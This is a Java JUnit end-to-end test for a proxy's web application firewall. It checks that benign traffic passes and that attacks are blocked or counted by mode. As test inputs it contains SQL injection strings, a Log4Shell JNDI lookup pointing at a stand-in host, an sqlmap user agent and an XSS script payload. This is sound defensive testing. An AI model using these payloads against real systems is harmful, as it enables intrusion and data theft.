package io.portcullis.dataplane.filters.waf;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.portcullis.dataplane.admin.ProxyMetrics;
import io.portcullis.dataplane.config.LiveConfig;
import io.portcullis.dataplane.proxy.ProxyServer;
import io.portcullis.dataplane.proxy.ProxySettings;
import io.portcullis.dataplane.testing.TestBackend;
import io.portcullis.snapshot.Cluster;
import io.portcullis.snapshot.Endpoint;
import io.portcullis.snapshot.PathMatch;
import io.portcullis.snapshot.Route;
import io.portcullis.snapshot.RouteAction;
import io.portcullis.snapshot.RouteMatch;
import io.portcullis.snapshot.Snapshot;
import io.portcullis.snapshot.VirtualHost;
import io.portcullis.snapshot.filter.WafSettings;
import io.prometheus.metrics.expositionformats.PrometheusTextFormatWriter;
import io.prometheus.metrics.model.registry.PrometheusRegistry;
import java.io.ByteArrayOutputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

/** The WAF on the filter chain through a real proxy, a real backend and the JDK HTTP client. */
class WafEndToEndTest {
  private static final String HOST = "shop.example.com";
  private static final PrometheusRegistry REGISTRY = new PrometheusRegistry();
  private final TestBackend backend = new TestBackend();
  private final LiveConfig config = new LiveConfig();
  private final HttpClient client = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
  private ProxyServer proxy;
  private int port;

  @BeforeAll
  static void rules() {
    Assumptions.assumeTrue(Files.isDirectory(WafRuntime.DEFAULT_RULES.resolve("rules")),
        "modsecurity-crs is not installed");
    WafRuntime.configure(WafRuntime.DEFAULT_RULES, REGISTRY);
  }

  @BeforeEach
  void start() {
    int backendPort = backend.start();
    RouteAction forward = RouteAction.Forward.to("c");
    VirtualHost vhost = new VirtualHost(HOST, List.of(
        Route.of("detect", RouteMatch.path(new PathMatch.Prefix("/detect")), forward)
            .withFilters(List.of(WafSettings.of(WafSettings.Mode.DETECT))),
        Route.of("off", RouteMatch.path(new PathMatch.Prefix("/off")), forward)
            .withFilters(List.of(WafSettings.of(WafSettings.Mode.OFF))),
        Route.of("tuned", RouteMatch.path(new PathMatch.Prefix("/tuned")), forward)
            .withFilters(List.of(new WafSettings(WafSettings.Mode.BLOCK, 1, 5, List.of("941000-941999")))),
        Route.of("shop", RouteMatch.path(new PathMatch.Prefix("/")), forward)),
        null, List.of(WafSettings.of(WafSettings.Mode.BLOCK)));
    config.apply(Snapshot.of(List.of(vhost),
        List.of(new Cluster("c", List.of(new Endpoint("127.0.0.1", backendPort)))), null));
    proxy = new ProxyServer(
        ProxySettings.builder().bindAddress("127.0.0.1").port(0).workerThreads(1).build(),
        config, new ProxyMetrics());
    port = proxy.start();
  }

  @AfterEach
  void stop() {
    proxy.close();
    backend.close();
  }

  private HttpResponse<String> get(String pathAndQuery, String... headers) throws Exception {
    return send("GET", pathAndQuery, null, null, headers);
  }

  private HttpResponse<String> send(String method, String pathAndQuery, String contentType, String body,
      String... headers) throws Exception {
    HttpRequest.Builder b = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + pathAndQuery))
        .header("Host", HOST)
        .header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0")
        .header("Accept", "*/*")
        .method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(body));
    if (contentType != null) {
      b.header("Content-Type", contentType);
    }
    for (int i = 0; i < headers.length; i += 2) {
      b.header(headers[i], headers[i + 1]);
    }
    return client.send(b.build(), HttpResponse.BodyHandlers.ofString());
  }

  @Test
  @DisplayName("benign requests reach the backend, bodies included, unchanged")
  void benignPasses() throws Exception {
    assertEquals(200, get("/products?id=42&sort=price").statusCode());
    String json = "{\"customerId\":\"c_8f3a\",\"items\":[{\"sku\":\"SHOE-42\",\"qty\":1}],\"note\":\"Leave at the door\"}";
    assertEquals(200, send("POST", "/api/orders", "application/json", json).statusCode());
    assertEquals(json, backend.requests.get(backend.requests.size() - 1).body());
  }

  @Test
  @DisplayName("an attack in the query is answered 403 by the proxy and never reaches the backend")
  void attackInQueryIsBlocked() throws Exception {
    var r = get("/products?id=1%27%20OR%20%271%27%3D%271");
    assertEquals(403, r.statusCode());
    assertTrue(backend.requests.isEmpty());
  }

  @Test
  @DisplayName("an attack in a JSON body is found in the buffered body and blocked")
  void attackInBodyIsBlocked() throws Exception {
    var r = send("POST", "/api/items", "application/json", "{\"id\":\"1' UNION SELECT NULL,NULL,NULL--\"}");
    assertEquals(403, r.statusCode());
    assertTrue(backend.requests.isEmpty());
  }

  @Test
  @DisplayName("Log4Shell in a header and a scanner user agent are blocked")
  void headersAreInspected() throws Exception {
    assertEquals(403, get("/", "X-Api-Version", "${jndi:ldap://evil.example/a}").statusCode());
    assertEquals(403, get("/", "User-Agent", "sqlmap/1.5.2#stable (http://sqlmap.org)").statusCode());
  }

  @Test
  @DisplayName("detect mode lets a condemned request through and counts it; off and excluded rules pass")
  void detectOffAndExclusions() throws Exception {
    String xss = "?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E";
    assertEquals(200, get("/detect" + xss).statusCode());
    assertEquals(200, get("/off" + xss).statusCode());
    assertEquals(200, get("/tuned" + xss).statusCode(), "941xxx excluded on this route");
    assertEquals(403, get("/tuned?q=1%27%20OR%20%271%27%3D%271").statusCode(), "other rules still run");
    assertEquals(3, backend.requests.size());
    String metrics = scrape();
    assertTrue(metrics.contains("portcullis_waf_requests_total{action=\"detected\",route=\"detect\"}"), metrics);
    assertTrue(metrics.contains("portcullis_waf_rule_matches_total{route=\"detect\",rule=\"941100\"}"), metrics);
    assertTrue(metrics.contains("portcullis_waf_inspection_seconds_count"), metrics);
  }

  private static String scrape() throws Exception {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    PrometheusTextFormatWriter.create().write(out, REGISTRY.scrape());
    return out.toString(StandardCharsets.UTF_8);
  }
}
